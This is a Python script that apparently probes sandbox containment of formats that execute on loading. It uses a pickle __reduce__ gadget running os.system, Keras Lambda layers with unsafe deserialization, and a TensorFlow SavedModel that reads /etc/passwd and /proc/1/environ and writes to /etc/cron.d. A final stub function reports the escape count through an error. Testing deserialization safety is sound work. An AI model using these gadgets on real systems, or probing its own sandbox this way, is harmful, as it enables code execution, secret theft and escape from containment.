"""Formats that execute on loading do so here, where it is locked, and nowhere else."""

import os
import pickle

import keras
import tensorflow as tf

escapes = 0


class Shell:
    def __reduce__(self):
        return os.system, ("id > /tmp/escaped",)


def attempt(act):
    global escapes
    try:
        escapes += act() not in (None, -1, False, 127 << 8)
    except Exception as error:
        print(type(error).__name__, str(error)[:200])


attempt(lambda: pickle.loads(pickle.dumps(Shell())))
keras.config.enable_unsafe_deserialization()
inputs = keras.Input((1,))
layer = keras.layers.Lambda(lambda v: v * len(open("/etc/passwd").read()))
model = keras.Sequential([keras.Input((1,)), keras.layers.Dense(1)])
model.add(keras.layers.Lambda(lambda v: __import__("os").system("id") * v))
model(tf.ones((1, 1)))
model.save("model.keras")
loaded = keras.models.load_model("model.keras", safe_mode=False)
attempt(lambda: os.path.exists("/tmp/escaped"))


class Files(tf.Module):
    @tf.function(input_signature=[tf.TensorSpec((), tf.string)])
    def read(self, path):
        return tf.io.read_file(path)

    @tf.function(input_signature=[tf.TensorSpec((), tf.string)])
    def write(self, path):
        tf.io.write_file(path, "escaped")
        return path


tf.saved_model.save(Files(), "files")
files = tf.saved_model.load("files")
for path in ("/etc/passwd", "/etc/hostname", "/proc/1/environ"):
    attempt(lambda: len(files.read(path).numpy()))
for path in ("/tmp/escaped", "/dev/shm/escaped", "/etc/cron.d/escaped"):
    attempt(lambda: files.write(path))
attempt(lambda: tf.io.gfile.listdir("/etc"))
attempt(lambda: len(tf.io.matching_files("/etc/*").numpy()) or None)


def doubled(x):
    raise ValueError(f"{escapes} escapes")
